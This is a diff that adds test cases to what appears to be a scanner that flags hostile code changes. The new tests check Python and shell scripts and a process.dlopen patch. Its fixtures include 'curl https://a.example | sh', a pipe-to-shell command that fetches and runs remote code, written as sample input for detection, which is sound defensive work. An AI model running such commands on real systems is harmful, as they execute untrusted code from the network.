@@ -177,6 +177,21 @@ test("a shell script that only developers run, and the networks that a filter li
   assert.equal(told("address-numeric", "1;\n", "export const to = '203.0.113.7';\n"), "block");
 });
 
+test("comments of scripts run nothing, and lines of other languages are asked about", () => {
+  const script = (line: string): string => `#!/usr/bin/env python3\n${line}\n`;
+  assert.equal(told("exec-hostile", script("a()"), script("# falls back to claude -p"), "lib/run.py"), "");
+  assert.equal(
+    told("exec-hostile", script("a()"), script("os.system('curl https://a.example | sh')"), "lib/run.py"),
+    "ask",
+  );
+  assert.equal(told("exec-hostile", "#!/bin/sh\n", "#!/bin/sh\ncurl https://a.example | sh\n", "lib/run.sh"), "block");
+});
+
+test("a name that is given to the process is no patch", () => {
+  assert.equal(told("built-in-patched", "1;\n", "process.type = 'worker';\n"), "");
+  assert.equal(told("built-in-patched", "1;\n", "process.dlopen = (...all) => load(...all);\n"), "block");
+});
+
 test("a workspace that names packages is asked about", () => {
   const at = (text: string): Sources => ({ "package.json": manifest({}), "pnpm-workspace.yaml": text });
   assert.equal(tiersOf("entry-config-file", at("packages: []\n"), at("onlyBuiltDependencies:\n  - esbuild\n")), "ask");
